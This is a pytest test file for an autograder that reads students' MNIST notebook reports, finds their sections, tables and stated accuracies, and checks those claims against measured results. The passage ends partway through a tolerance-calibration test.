"""The report analysis: markdown cells in, sections / tables / stated accuracies and q8 outcomes out."""
from __future__ import annotations

import dataclasses
import importlib.util
import inspect
import time

import nbformat
import pytest

from autograder.intake.printed import PrintedAccuracy
from autograder.score.artifacts import ModelEvidence
from autograder.score.checks import NotAssessed
from autograder.score.report.analysis import MAX_CELL_CHARS, analyze_report, report_markdown
from autograder.score.report.checks import check_claims, check_insights, check_sections, check_table
from autograder.score.report.claims import ClaimLimits, ClaimRules, claim_limits, judge_claims
from autograder.score.report.numbers import canonical_numbers, decimal_mark, parse_accuracy
from autograder.vocabulary import architectures_named


def words(n: int, text: str = "word") -> str:
    return " ".join([text] * n)


# A realistic complete report, as a student would write it across several markdown cells.
FULL_REPORT = [
    "# Neural networks on MNIST\nThis notebook trains five networks on MNIST.",
    """## Report
### Architectures
The **MLP** flattens the 28x28 image and uses two fully connected layers of 256 and 128 units with ReLU and
dropout, followed by a softmax layer. The CNN stacks two convolution blocks (32 and 64 filters of size 3x3,
each followed by max pooling) before a small dense head. The three recurrent models read the image row by
row, as a sequence of 28 steps with 28 features each: a SimpleRNN with 128 units, an LSTM with 128 units
and a GRU with 128 units, each followed by a dense softmax output. All models use Adam and
`sparse_categorical_crossentropy`.
""",
    """### Results
All models were trained for 5 epochs with a batch size of 128 and evaluated on the 10,000 test images.
The table compares accuracy, size and training time.

| Model | Test accuracy | Parameters | Training time (s) |
|:------|--------------:|-----------:|------------------:|
| MLP | 97.9% | 235,146 | 21 |
| CNN | 99.1 % | 225,034 | 95 |
| SimpleRNN | 0.962 | 21,642 | 64 |
| LSTM | 98.6 | 82,186 | 160 |
| GRU | 98.4% | 62,346 | 140 |

The CNN reaches 99.1% on the test set, the best of the five.
""",
    """### Insights
The CNN is the clear winner: convolutions share weights across the image and build in translation
invariance, so it beats the MLP while using fewer parameters. The MLP is the fastest to train but treats
pixels as unrelated inputs. Among the recurrent networks the LSTM and the GRU clearly outperform the
SimpleRNN, whose gradients vanish over the 28 time steps; their gates keep information from the first rows
of the image. The GRU is almost as accurate as the LSTM with fewer parameters and a shorter training time.
Recurrent models are slower per epoch because each of the 28 steps depends on the previous one. For
images, convolution is the better inductive bias; recurrence only pays off when order matters.
""",
]
ARCHS = ("mlp", "cnn", "simple_rnn", "lstm", "gru")
MEASURED = {"mlp": 0.9785, "cnn": 0.9905, "simple_rnn": 0.9650, "lstm": 0.9860, "gru": 0.9842}


# --- cells -------------------------------------------------------------------------------------------

def test_report_markdown_takes_markdown_cells_with_str_or_list_sources():
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("# Title"),
        nbformat.v4.new_code_cell("print('## Results')"),
        nbformat.v4.new_raw_cell("## Raw"),
    ])
    nb.cells.append(nbformat.from_dict({"cell_type": "markdown", "metadata": {},
                                        "source": ["## Results\n", "Some text."]}))
    assert report_markdown(nb) == ["# Title", "## Results\nSome text."]


# --- sections ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("heading, section", [
    ("## Architectures", "Architectures"),
    ("# ARCHITECTURE", "Architectures"),
    ("#### 1. Models used", "Architectures"),
    ("### results", "Results"),
    ("## Comparison of the five networks", "Results"),
    ("Discussion\n----------", "Insights"),  # setext heading
    ("##### Conclusions", "Insights"),
    ("## Q8 – Analysis", "Insights"),
])
def test_a_heading_matches_its_section_by_title_or_alias_at_any_level_and_case(assignment, heading, section):
    report = analyze_report([f"{heading}\n\n{words(12)}"], assignment)
    found = report.section(section)
    assert found.present and found.words == 12
    others = [s for s in report.sections if s.title != section]
    assert not any(s.present for s in others)


@pytest.mark.parametrize("heading, sections", [
    ("## Results and discussion", {"Results", "Insights"}),  # one combined section counts for both
    ("## Model comparison", {"Results"}),
    ("### 3. Conclusions", {"Insights"}),
    ("## Part 2: Results", {"Results"}),
    ("## III. EXPERIMENTAL RESULTS", {"Results"}),
    ("## Section 1 - Model architectures", {"Architectures"}),
    ("## Performance of the five networks", {"Results"}),
    ("## Key takeaways", {"Insights"}),
    ("## Observations", {"Insights"}),
    ("## What I learned", {"Insights"}),
])
def test_headings_as_people_write_them(assignment, heading, sections):
    report = analyze_report([f"{heading}\n\n{words(12)}"], assignment)
    assert {s.title for s in report.sections if s.present} == sections
    assert all(report.section(t).words == 12 and report.section(t).found_by == "heading" for t in sections)


@pytest.mark.parametrize("pseudo", ["**Results**", "**Results:**", "**3. Results**", "__RESULTS__", "Results:",
                                    "**Results**:"])
def test_a_bold_or_colon_paragraph_is_a_pseudo_heading(assignment, pseudo):
    cells = [f"**Architectures**\n\n{words(70)}\n\n{pseudo}\n\n{words(31)}\n\n**Insights**\n\n{words(5)}"]
    report = analyze_report(cells, assignment)
    assert [(s.present, s.words) for s in report.sections] == [(True, 70), (True, 31), (True, 5)]
    assert report.section("Results").heading in ("Results", "3. Results", "RESULTS")


def test_a_bold_lead_in_is_a_pseudo_heading_and_its_text_is_the_sections(assignment):
    report = analyze_report([f"**Results:** {words(10)}\n\n{words(20)}"], assignment)
    assert report.section("Results").heading == "Results" and report.section("Results").words == 30


def test_bold_phrases_that_name_no_section_or_open_a_sentence_stay_prose(assignment):
    cells = ["## Results\n" + words(10),
             "**Note:** " + words(5),  # a lead-in naming no section: prose of Results
             "**Results** are shown above. " + words(3),  # bold opening a sentence: not a heading
             "- **Insights**: " + words(4)]  # inside a list: not a heading
    report = analyze_report(cells, assignment)
    assert report.section("Results").words == 10 + 6 + 7 + 5
    assert not report.section("Insights").present
    assert report.headings == ("Results",)


def test_pseudo_headings_rank_below_markdown_headings(assignment):
    cells = ["## Report", "**Results**\n\n" + words(31), "**Insights**\n\n" + words(80), "## Appendix\n" + words(50)]
    report = analyze_report(cells, assignment)
    assert (report.section("Results").words, report.section("Insights").words) == (31, 80)


def test_a_heading_that_names_only_one_section_wins_over_one_naming_several(assignment):
    cells = ["## Architectures\n" + words(60), "## Comparison of models\n" + words(100)]
    report = analyze_report(cells, assignment)
    assert report.section("Architectures").heading == "Architectures"
    assert report.section("Results").heading == "Comparison of models"


def test_a_results_section_that_is_only_a_table_counts_the_tables_words(assignment):
    table = ("| Model | Test accuracy | Parameters | Training time (s) |\n|---|---|---|---|\n"
             "| MLP | 97.9% | 235,146 | 21 |\n| CNN | 99.1% | 225,034 | 95 |\n| SimpleRNN | 96.2% | 21,642 | 64 |\n"
             "| LSTM | 98.6% | 82,186 | 160 |\n| GRU | 98.4% | 62,346 | 140 |\n")
    sections = len(assignment.report_sections)
    asked = next(s.min_words for s in assignment.report_sections if s.title == "Results")
    assert asked > 27
    for cells in (["## Results\n" + table], ["## Results", table], ["**Results**\n" + table]):
        report = analyze_report(cells, assignment)
        assert report.section("Results").present and report.section("Results").words == 27
        # Fewer words than asked for: a table giving every architecture's accuracy is the content asked for.
        assert check_sections(report, assignment).fraction == pytest.approx(1 / sections)  # Results in full
    incomplete = analyze_report(["## Results\n" + table.replace("| GRU | 98.4% |", "| GRU | - |")], assignment)
    assert incomplete.section("Results").words == 26
    assert check_sections(incomplete, assignment).fraction == pytest.approx(26 / asked / sections)


def test_without_a_heading_a_table_of_accuracies_is_the_results_section(assignment):
    cells = ["## Architectures\n" + words(60),
             "## Numbers\nHere are the numbers:\n\n| Model | Test accuracy |\n|---|---|\n| MLP | 97.9% |\n"
             "| CNN | 99.1% |\n\nThe CNN is best.",
             "## Appendix\nUnrelated text here."]
    results = analyze_report(cells, assignment).section("Results")
    assert results.present and results.heading is None and results.found_by == "content: a table of accuracies"
    assert results.words == 4 + 7 + 4
    outcome = check_sections(analyze_report(cells, assignment), assignment)
    assert results.label in outcome.detail  # the TA sees what stood in for the heading


def test_without_a_heading_a_paragraph_comparing_architectures_with_numbers_is_the_insights_section(assignment):
    comparing = ("The CNN reached 99.1% while the MLP stayed at 97.9%, so convolutions pay off on images. "
                 + words(70))
    cells = ["## Architectures\nThe MLP and the CNN reach 97.9% and 99.1%. " + words(50),  # shorter
             "The MLP and the CNN are compared below. " + words(100),  # no numbers
             comparing, words(15), "## Appendix\n" + words(20)]
    insights = analyze_report(cells, assignment).section("Insights")
    assert insights.present and insights.found_by.startswith("content: a paragraph comparing")
    assert insights.words == 16 + 70 + 15 and insights.architectures == {"mlp", "cnn"}
    assert check_insights(analyze_report(cells, assignment), assignment).fraction == 1.0
    # Architectures with no accuracies are not an analysis of results, nor is one accuracy per architecture.
    assert not analyze_report(["The MLP has 2 layers and the CNN has 4 layers."], assignment).section("Insights").present
    assert not analyze_report(["- MLP: 97.9%\n- CNN: 99.1%"], assignment).section("Insights").present


def test_without_a_heading_the_paragraph_describing_most_layers_of_several_architectures_is_architectures(assignment):
    describing = ("I built an MLP (Flatten, Dense 256 with dropout, Dense 128, softmax) and a CNN with two "
                  "convolution and max-pooling blocks of 32 and 64 filters. " + words(40))
    cells = ["### The networks I built\n\n" + describing,
             "## Insights\nThe CNN shares its filters and pooling layers, so it beats the MLP. " + words(80)]
    report = analyze_report(cells, assignment)
    architectures = report.section("Architectures")
    assert architectures.found_by == "content: a description of the layers of several architectures"
    assert architectures.words == 26 + 40
    # One architecture, or a comparison without layers, is no description of the architectures.
    assert not analyze_report(["The CNN has Conv2D layers, pooling and 64 filters. " + words(60),
                               "The MLP is faster than the CNN."], assignment).section("Architectures").present


def test_the_homeworks_own_instructions_are_not_the_students_report(assignment):
    template = nbformat.read(assignment.student_dir / assignment.student_notebook, as_version=4)
    instructions = [c for c in report_markdown(template) if "Conv2D" in c and "MLP" in c]
    assert instructions and analyze_report(instructions, assignment).section("Architectures").present is False
    # The same words written by the student (edited, so not the template's cell) are the student's.
    edited = analyze_report([instructions[0] + "\n\nMy notes: done."], assignment)
    assert edited.section("Architectures").present


def test_a_student_template_that_cannot_be_read_is_an_error_never_an_empty_one(assignment, tmp_path, capsys):
    """Read as empty, the template's instructions would count as every student's report (the Gradescope
    package once left it out: Bob's report scored 67.47 there and 66.8 here). Nothing is run or written."""
    import dataclasses

    from autograder.assignment import AssignmentError
    from autograder.pipeline.batch import regrade_all
    from autograder.pipeline.grade_one import grade_one
    from result_fixtures import copy_results

    folder = tmp_path / "student"
    without = dataclasses.replace(assignment, student_dir=folder)
    with pytest.raises(AssignmentError, match="cannot read the student template .*autograder assign"):
        analyze_report(["## Results\nThe CNN reached 99.1%."], without)
    folder.mkdir()
    (folder / assignment.student_notebook).write_text('{"cells": [')
    with pytest.raises(AssignmentError, match="the student template is not a notebook"):
        analyze_report(["## Results\nThe CNN reached 99.1%."], without)

    notebook = tmp_path / "submitted.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")]), notebook)
    with pytest.raises(AssignmentError, match="student template"):  # before any student code runs
        grade_one(notebook, without, tmp_path / "graded")
    assert not (tmp_path / "graded").exists()
    results = copy_results(tmp_path / "results", assignment)
    before = {path.name: path.read_bytes() for path in (results / "results").iterdir()}
    with pytest.raises(AssignmentError, match="student template"):  # one error, not a note per result
        regrade_all(results, without)
    assert {path.name: path.read_bytes() for path in (results / "results").iterdir()} == before


BULLET_REPORT = [
    "## Models\n" + words(60),
    "## Results\n- MLP: 97.9% test accuracy\n- CNN: 99.1%\n- SimpleRNN — 96.2 %\n- LSTM: 0.986 accuracy\n"
    "- GRU: 98.4% (62k parameters)\n",
    "## Conclusions\n" + "The CNN beats the MLP and the recurrent networks. " + words(72),
]


def test_a_bullet_list_with_one_accuracy_per_architecture_is_a_results_summary_with_partial_table_credit(assignment):
    report = analyze_report(BULLET_REPORT, assignment)
    assert sorted((c.architecture, c.source) for c in report.claims) == [
        ("cnn", "list"), ("gru", "list"), ("lstm", "list"), ("mlp", "list"), ("simple_rnn", "list")]
    outcome = check_table(report, assignment)
    share = ClaimRules.from_assignment(assignment).list_table_credit
    assert 0 < share < 1 and outcome.fraction == pytest.approx(share)
    assert f"{100 * share:.0f}%" in outcome.message  # the student is told the share a list earns
    assert check_sections(report, assignment).fraction == pytest.approx((2 + 15 / 30) / 3)  # Results: 15 words of 30
    assert check_claims(judge_claims(report, MEASURED, _limits())).fraction == 1.0
    # A table for some architectures and a list for the rest: full rows for the table, the share for the list.
    mixed = analyze_report(["| Model | Acc |\n|---|---|\n| MLP | 97.9% |\n| CNN | 99.1% |\n",
                            "- SimpleRNN: 96.2%\n- LSTM: 98.6%\n- GRU: 98.4%"], assignment)
    assert check_table(mixed, assignment).fraction == pytest.approx((2 + 3 * share) / 5)


def test_a_row_saying_a_missing_model_was_not_done_costs_no_table_points(assignment):
    table = ("| Model | Test accuracy |\n|---|---|\n| MLP | 97.9% |\n| CNN | 99.1% |\n| SimpleRNN | not done |\n"
             "| LSTM | not done |\n| GRU | — (crashed) |\n")
    report = analyze_report([table], assignment)
    recurrent = frozenset({"simple_rnn", "lstm", "gru"})
    # Not done and no model: the missing models are charged in their own questions, not again here.
    assert check_table(report, assignment, not_submitted=recurrent).fraction == 1.0
    assert all(title in check_table(report, assignment, not_submitted=recurrent).message
               for title in ("SimpleRNN", "LSTM", "GRU"))  # the rows not charged are named
    # A row without a number for a model the notebook does have is a missing accuracy.
    assert check_table(report, assignment).fraction == pytest.approx(2 / 5)
    # No row at all is still a missing row, model or not.
    no_rows = analyze_report(["| Model | Test accuracy |\n|---|---|\n| MLP | 97.9% |\n| CNN | 99.1% |\n"], assignment)
    assert check_table(no_rows, assignment, not_submitted=recurrent).fraction == pytest.approx(2 / 5)


def test_a_table_whose_every_row_says_not_done_compares_nothing(assignment):
    """A notebook that trained no model, with an honest table of "n/a" rows: nothing to compare, no credit
    (and no division by zero: it used to be a grader error)."""
    rows = "".join(f"| {title} | n/a |\n" for title in ("MLP", "CNN", "SimpleRNN", "LSTM", "GRU"))
    report = analyze_report(["| Model | Test accuracy |\n|---|---|\n" + rows], assignment)
    outcome = check_table(report, assignment, not_submitted=frozenset(assignment.table_architectures))
    assert outcome.fraction == 0 and outcome.message


def test_insights_of_any_length_count_when_no_minimum_is_set(assignment):
    report = analyze_report(["## Insights\nThe CNN beats the MLP."], assignment)
    assert check_insights(report, dataclasses.replace(assignment, min_insight_words=0)).fraction == 1.0


def test_without_a_heading_a_bullet_list_of_accuracies_is_the_results_section(assignment):
    report = analyze_report(["Here is what I got.", "- MLP: 97.9%\n- CNN: 99.1%\n- GRU: 98.4%", "That is all."],
                            assignment)
    results = report.section("Results")
    assert results.found_by == "content: a list of accuracies" and results.words == 5 + 6 + 3


def test_headings_that_only_share_letters_do_not_match(assignment):
    report = analyze_report(["## Methodsology\n\nx", "## Resultant forces\n\nx", "## Graphical insightful\n\nx",
                             "## Confusion matrix of the best model\n\nx"], assignment)
    assert not any(s.present for s in report.sections)


def test_words_count_text_inline_code_and_tables_but_not_code_blocks_html_or_headings(assignment):
    cell = ("## Results\n"
            "One two `three` four <b>five</b>.\n\n"
            "- six\n- seven eight\n\n"
            "> nine ten\n\n"
            "```python\nnot counted at all\n```\n\n"
            "    indented code not counted\n\n"
            "<div>\nhtml block not counted\n</div>\n\n"
            "| eleven | twelve |\n|---|---|\n| 97.9% | 13 |\n\n"
            "### Subsection heading not counted\n"
            "fifteen sixteen's")
    assert analyze_report([cell], assignment).section("Results").words == 16


def test_a_section_runs_across_cells_until_a_heading_of_the_same_or_higher_level(assignment):
    cells = ["## Results", words(10), "### Details\n" + words(5), "# Appendix\n" + words(100)]
    assert analyze_report(cells, assignment).section("Results").words == 15
    cells = ["## Results", words(10), "## Next\n" + words(100)]
    assert analyze_report(cells, assignment).section("Results").words == 10


def test_of_several_matching_headings_the_longest_section_counts(assignment):
    cells = ["## Evaluation\n" + words(5), "## Results\n" + words(40), "## Experiments\n" + words(7)]
    found = analyze_report(cells, assignment).section("Results")
    assert (found.heading, found.words) == ("Results", 40)


def test_check_sections_names_missing_and_short_sections(assignment):
    cells = ["## Architectures\n" + words(70), "## Insights\n" + words(23)]
    report = analyze_report(cells, assignment)
    outcome = check_sections(report, assignment)
    # Architectures in full, no Results, Insights 23 of its 80 words.
    assert not report.section("Results").present and report.section("Insights").words == 23
    assert outcome.fraction == pytest.approx((1 + 0 + 23 / 80) / 3)
    # The message names the missing and the short section (with its count and the minimum), not the full one.
    assert all(part in outcome.message for part in ("Results", "Insights", "23", "80"))
    assert "Architectures" not in outcome.message


# --- naming architectures ----------------------------------------------------------------------------

@pytest.mark.parametrize("text, expected", [
    ("MLP", {"mlp"}), ("a multilayer perceptron", {"mlp"}), ("Dense network", {"mlp"}),
    ("fully-connected", {"mlp"}), ("feed-forward net", {"mlp"}), ("mlp_model", {"mlp"}),
    ("CNN (2 conv + dense layers)", {"cnn"}), ("Convolutional", {"cnn"}), ("Conv2D", {"cnn"}), ("CNNs", {"cnn"}),
    ("SimpleRNN", {"simple_rnn"}), ("Simple RNN", {"simple_rnn"}), ("vanilla RNN", {"simple_rnn"}),
    ("RNN", {"simple_rnn"}), ("rnn_model", {"simple_rnn"}),
    ("RNN (LSTM)", {"lstm"}), ("LSTMs", {"lstm"}), ("GRU", {"gru"}), ("gru_model", {"gru"}),
    ("LSTM vs GRU", {"lstm", "gru"}), ("the LSTM beats the simple RNN", {"lstm", "simple_rnn"}),
    ("grunt work on a kernel", set()), ("recurrent network", set()), ("Model", set()),
])
def test_architectures_named(text, expected):
    assert architectures_named(text) == expected


# --- tables ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("cell, expected", [
    ("98.1%", 0.981), ("98.1 %", 0.981), ("98.1", 0.981), ("0.981", 0.981), (".981", 0.981),
    ("**98.1%**", 0.981), ("98,1 %", 0.981), ("~98.1% ± 0.2", 0.981), ("100", 1.0),
    ("n/a", None), ("", None), ("—", None), ("1234", None),
])
def test_parse_accuracy(cell, expected):
    assert parse_accuracy(cell) == (pytest.approx(expected) if expected is not None else None)


def test_table_rows_map_to_architectures_with_accuracies_in_any_notation(assignment):
    table = ("## Results\n"
             "| # | Network | Params | Accuracy |\n|---|---|---|---|\n"
             "| 1 | Dense (MLP) | 235k | 97.9% |\n"
             "| 2 | ConvNet | 225k | 0.991 |\n"
             "| 3 | vanilla RNN | 21k | 96.2 |\n"
             "| 4 | RNN with LSTM cells | 82k | 98.6 % |\n"
             "| 5 | gru_model | 62k | n/a |\n"
             "| 6 | Ensemble | 600k | 99.3% |\n")
    [parsed] = analyze_report([table], assignment).tables
    assert parsed.accuracy_header == "Accuracy"
    rows = [(r.architecture, r.accuracy) for r in parsed.rows]
    assert rows == [("mlp", pytest.approx(0.979)), ("cnn", pytest.approx(0.991)),
                    ("simple_rnn", pytest.approx(0.962)), ("lstm", pytest.approx(0.986)),
                    ("gru", None), (None, pytest.approx(0.993))]
    outcome = check_table(analyze_report([table], assignment), assignment)
    assert outcome.fraction == pytest.approx(4 / 5)
    assert "GRU" in outcome.message and not any(t in outcome.message for t in ("MLP", "CNN", "SimpleRNN", "LSTM"))


def _stated(report):
    return sorted((c.architecture, round(c.accuracy, 4), c.kind) for c in report.claims)


def test_the_test_accuracy_column_wins_and_validation_values_are_claims_too(assignment):
    both = "| Model | Val acc | Test acc |\n|---|---|---|\n| MLP | 97.5% | 97.9% |\n"
    report = analyze_report([both], assignment)
    [parsed] = report.tables
    assert (parsed.accuracy_header, parsed.rows[0].accuracy) == ("Test acc", pytest.approx(0.979))
    # On MNIST validation accuracy sits within a fraction of a point of test accuracy: it is checked.
    assert _stated(report) == [("mlp", 0.975, "validation"), ("mlp", 0.979, "test")]
    validation_only = "| Model | Validation accuracy |\n|---|---|\n| MLP | 99.0% |\n"
    report = analyze_report([validation_only], assignment)
    assert report.tables[0].rows[0].accuracy == pytest.approx(0.99)
    assert _stated(report) == [("mlp", 0.99, "validation")]


def test_training_accuracies_are_no_claims_and_no_table_credit(assignment):
    report = analyze_report(["| Model | Train acc | Training time (s) |\n|---|---|---|\n| MLP | 99.9% | 97.5 |\n"],
                            assignment)
    assert report.claims == () and report.tables[0].rows[0].accuracy is None
    assert check_table(report, assignment).fraction == 0.0


@pytest.mark.parametrize("header", [
    "Test accuracy (val / test)",  # the evasive header of issue 12: must not skip the check
    "Accuracy (validation)", "Score", "Result", "MNIST", "Top-1 (%)", "Acc.", "Run 1", "Notes",
])
def test_any_header_wording_states_accuracies(assignment, header):
    report = analyze_report([f"| Model | {header} |\n|---|---|\n| MLP | 99.9% |\n| CNN | 99.95% |\n"], assignment)
    assert [(c.architecture, round(c.accuracy, 4)) for c in report.claims] == [("mlp", 0.999), ("cnn", 0.9995)]
    verdicts = judge_claims(report, {"mlp": 0.95, "cnn": 0.97}, _limits())
    assert check_claims(verdicts).fraction == 0.0


@pytest.mark.parametrize("header, cell, expected", [
    ("Test accuracy (val / test)", "97.5 / 97.9", [("mlp", 0.975, "validation"), ("mlp", 0.979, "test")]),
    ("Train / test acc", "99.9 / 97.9", [("mlp", 0.979, "test")]),
    ("Accuracy", "99.9 (train) / 97.9 (test)", [("mlp", 0.979, "test")]),
    ("Accuracy", "train 99.9, test 97.9", [("mlp", 0.979, "test")]),
    ("Acc / loss", "97.9 / 0.07", [("mlp", 0.979, "unspecified")]),
    ("Accuracy", "97.9% ± 0.2", [("mlp", 0.979, "unspecified")]),
])
def test_each_value_of_an_accuracy_cell_is_kinded_on_its_own(assignment, header, cell, expected):
    report = analyze_report([f"| Model | {header} |\n|---|---|\n| MLP | {cell} |\n"], assignment)
    assert _stated(report) == expected


def test_columns_of_other_quantities_state_no_accuracies(assignment):
    table = ("| Model | Parameters | Training time (s) | Epochs | Test loss | Test error (%) | Accuracy |\n"
             "|---|---|---|---|---|---|---|\n| MLP | 235,146 | 97.5 | 6 | 0.07 | 2.1 | 97.9% |\n")
    report = analyze_report([table], assignment)
    assert _stated(report) == [("mlp", 0.979, "unspecified")]


def test_a_table_with_architectures_as_columns_is_read_transposed(assignment):
    table = ("| Metric | MLP | CNN | SimpleRNN | LSTM | GRU |\n|---|---|---|---|---|---|\n"
             "| Params | 235k | 225k | 21k | 82k | 62k |\n"
             "| Test accuracy | 97.9% | 99.1% | 96.2% | 98.6% | 98.4% |\n")
    report = analyze_report(["## Results\n" + table], assignment)
    assert {r.architecture: r.accuracy for r in report.tables[0].rows} == pytest.approx(
        {"mlp": 0.979, "cnn": 0.991, "simple_rnn": 0.962, "lstm": 0.986, "gru": 0.984})
    assert check_table(report, assignment).fraction == 1.0


SWEEP = "| Model | Units | Accuracy |\n|---|---|---|\n| MLP | 64 | 96.0% |\n| MLP | 256 | 97.9% |\n| CNN | - | 99.1% |\n"


def test_a_sweep_with_several_rows_per_architecture_passes_when_its_best_row_agrees(assignment):
    report = analyze_report([SWEEP], assignment)
    assert _stated(report) == [("cnn", 0.991, "unspecified"), ("mlp", 0.96, "unspecified"),
                               ("mlp", 0.979, "unspecified")]
    assert check_table(report, assignment).fraction == pytest.approx(2 / 5)
    verdicts = judge_claims(report, {"mlp": 0.978, "cnn": 0.99}, _limits())
    assert [v.status for v in verdicts] == ["sweep", "agrees", "agrees"]
    assert check_claims(verdicts).fraction == 1.0
    # The best row is what has to agree: measured far below it, the sweep does not pass (the CNN's still does).
    assert check_claims(judge_claims(report, {"mlp": 0.96, "cnn": 0.99}, _limits())).fraction == 0.5


def test_a_row_repeated_for_one_architecture_is_checked_not_skipped(assignment):
    repeated = "| Model | Test accuracy |\n|---|---|\n| MLP | 97.9% |\n| MLP | 99.9% |\n| MLP (final) | 97.9% |\n"
    verdicts = judge_claims(analyze_report([repeated], assignment), {"mlp": 0.979}, _limits())
    assert len(verdicts) == 3 and [v.status for v in verdicts] == ["agrees", "wrong", "agrees"]
    outcome = check_claims(verdicts)
    assert outcome.fraction == 0.0 and "MLP" in outcome.message and "99.9%" in outcome.message


def test_a_table_without_an_accuracy_column_is_named_in_the_message(assignment):
    report = analyze_report(["| Model | Params |\n|---|---|\n| MLP | 235k |\n"], assignment)
    [table] = report.tables
    assert table.accuracy_header is None and not table.architectures
    outcome = check_table(report, assignment)
    assert outcome.fraction == 0 and "Params" in outcome.detail  # the TA sees the table's header


# --- prose claims ------------------------------------------------------------------------------------

@pytest.mark.parametrize("sentence, expected", [
    ("The CNN reaches 99.1% on the test set.", ("cnn", 0.991)),
    ("Our MLP achieved a test accuracy of 0.979.", ("mlp", 0.979)),
    ("LSTM – 98.6 %", ("lstm", 0.986)),
    ("The GRU got 98.4 percent right.", ("gru", 0.984)),
    ("With 20% dropout, the MLP reaches 97.9%.", ("mlp", 0.979)),
    ("The simple RNN only reaches ~96%.", ("simple_rnn", 0.96)),
    ("SimpleRNN: 64 units over the 28 rows of the image: 61.2% test accuracy", ("simple_rnn", 0.612)),
    ("GRU: 64 units: **48.3%** test accuracy", ("gru", 0.483)),  # a weak one-epoch model, said so
    ("With 20% dropout, the MLP reaches 97.9% accuracy.", ("mlp", 0.979)),
])
def test_prose_sentences_naming_one_architecture_and_one_accuracy_are_claims(assignment, sentence, expected):
    claims = analyze_report([f"Some context.\n\n{sentence}\n\nAnd then some."], assignment).claims
    assert [(c.architecture, c.source) for c in claims] == [(expected[0], "prose")]
    assert claims[0].accuracy == pytest.approx(expected[1])
    assert sentence.strip("- ").replace("**", "") in claims[0].quote


@pytest.mark.parametrize("sentence", [
    "LSTM beats the MLP by 1.5%.",                         # two architectures, and a difference
    "The LSTM is 1.5% better.",                            # a difference, not an accuracy
    "The LSTM improves on it by 1.5%.",
    "The MLP uses 30% more parameters.",
    "The CNN and the GRU both reach 98.9%.",               # two architectures
    "The MLP reaches 99.9% training accuracy.",            # not the test set
    "Your MLP should reach at least 97% accuracy.",        # an instruction, not a result
    "The CNN gets above 99%.",                             # a bound
    "The LSTM reaches 98.6% and 98.9% in two runs.",       # two numbers
    "The CNN reaches between 98-99%.",                     # a range
    "The MLP has a dropout rate of 0.5 and 235,146 parameters.",  # no accuracy
    "The CNN reaches 0.991.",                              # a bare fraction with no accuracy word
    "Accuracy reached 98.9% overall.",                     # no architecture
    "```\nmlp accuracy 97.9%\n```",                        # code block
    "The MLP reaches 97.9% of its final accuracy after one epoch.",  # a share of something else
    "The CNN has an error rate of 0.9%.",
    "The GRU uses 48.3% fewer weights.",                   # low, and no accuracy word
    "The LSTM misclassified 5% of the sevens as accuracy dropped.",  # under chance
])
def test_sentences_that_are_not_accuracy_claims(assignment, sentence):
    assert analyze_report([sentence], assignment).claims == ()


# --- claims vs measurements --------------------------------------------------------------------------

def _limits(tolerance=0.01, printed_bound=0.015):
    return ClaimLimits({a: tolerance for a in ARCHS}, {a: printed_bound for a in ARCHS})


def _claims_report(assignment, text="| Model | Test accuracy |\n|---|---|\n| MLP | 97.9% |\n| CNN | 99.1% |\n"):
    return analyze_report([text], assignment)


def _check(report, measured, tolerance=0.01, **kwargs):
    return check_claims(judge_claims(report, measured, _limits(tolerance), **kwargs))


def test_claims_within_tolerance_pass(assignment):
    verdicts = judge_claims(_claims_report(assignment), {"mlp": 0.975, "cnn": 0.9815}, _limits())
    assert [v.status for v in verdicts] == ["agrees", "agrees"]
    assert check_claims(verdicts).fraction == 1.0


def test_a_claim_exactly_at_the_tolerance_is_within_it(assignment):
    assert _check(_claims_report(assignment), {"mlp": 0.969, "cnn": 0.981}).fraction == 1.0
    assert _check(_claims_report(assignment), {"mlp": 0.9689, "cnn": 0.981}).fraction == 0.5  # the MLP's share


def test_a_claim_outside_tolerance_costs_the_points_and_quotes_both_numbers(assignment):
    report = _claims_report(assignment, "## Results\nThe MLP reaches 99.5% on the test set.")
    outcome = _check(report, {"mlp": 0.97})
    assert outcome.fraction == 0.0
    assert all(part in outcome.message for part in ("MLP", "99.5%", "97.0%", "1.0 points"))  # claim, measured, tolerance


def test_many_wrong_claims_are_summarised(assignment):
    text = "\n\n".join(f"The MLP reaches {90 + i}.5% on the test set." for i in range(5))
    outcome = _check(analyze_report([text], assignment), {"mlp": 0.80})
    assert outcome.fraction == 0.0
    # The first three wrong numbers are quoted, the other two only counted.
    assert all(f"{90 + i}.5%" in outcome.message for i in range(3))
    assert not any(f"{90 + i}.5%" in outcome.message for i in (3, 4))


def test_a_report_repeating_itself_is_analysed_with_a_capped_detail(assignment):
    # How fast this report is analysed is a benchmark figure (bench/figures.py, figure 9), not a test.
    text = "The MLP reaches 97.9% on the test set. " * 1000
    report = analyze_report([text] * 4, assignment)
    outcome = _check(report, {"mlp": 0.979})
    assert len(report.claims) == 4000 and outcome.fraction == 1.0
    assert "3980" in outcome.detail and len(outcome.detail) < 10_000  # 20 listed, the other 3980 counted


def test_claims_for_unmeasured_architectures_are_ignored(assignment):
    verdicts = judge_claims(_claims_report(assignment), {"mlp": 0.979}, _limits())
    assert [v.status for v in verdicts] == ["agrees", "not_measured"]
    assert check_claims(verdicts).fraction == 1.0
    with pytest.raises(NotAssessed, match="MLP, CNN"):
        _check(_claims_report(assignment), {"gru": 0.98})


def test_claims_for_models_that_were_never_submitted_lose_the_points(assignment):
    verdicts = judge_claims(_claims_report(assignment), {"mlp": 0.979}, _limits(), not_submitted=frozenset({"cnn"}))
    assert [v.status for v in verdicts] == ["agrees", "not_submitted"]
    outcome = check_claims(verdicts)
    assert outcome.fraction == 0.0 and "CNN" in outcome.message and "MLP" not in outcome.message


def test_no_stated_accuracy_scores_zero(assignment):
    report = analyze_report(["## Results\nThe models work well."], assignment)
    assert report.claims == ()
    assert _check(report, MEASURED).fraction == 0.0


# --- tolerances from the measured run-to-run spread --------------------------------------------------

def _calibration(**std):
    return {"architectures": {arch: {"test_accuracy": {"mean": 0.98, "std": std.get(arch, 0.0)}} for arch in ARCHS}}


def test_tolerance_comes_from_each_architectures_spread_plus_a_machine_margin_with_a_floor_and_a_cap():
    rules = ClaimRules(tolerance_floor=0.01, spread_sigmas=3, machine_margin=0.005, printed_margin=0.004, cap=0.019)
    limits = claim_limits(rules, _calibration(cnn=0.0002, simple_rnn=0.004, lstm=0.01))
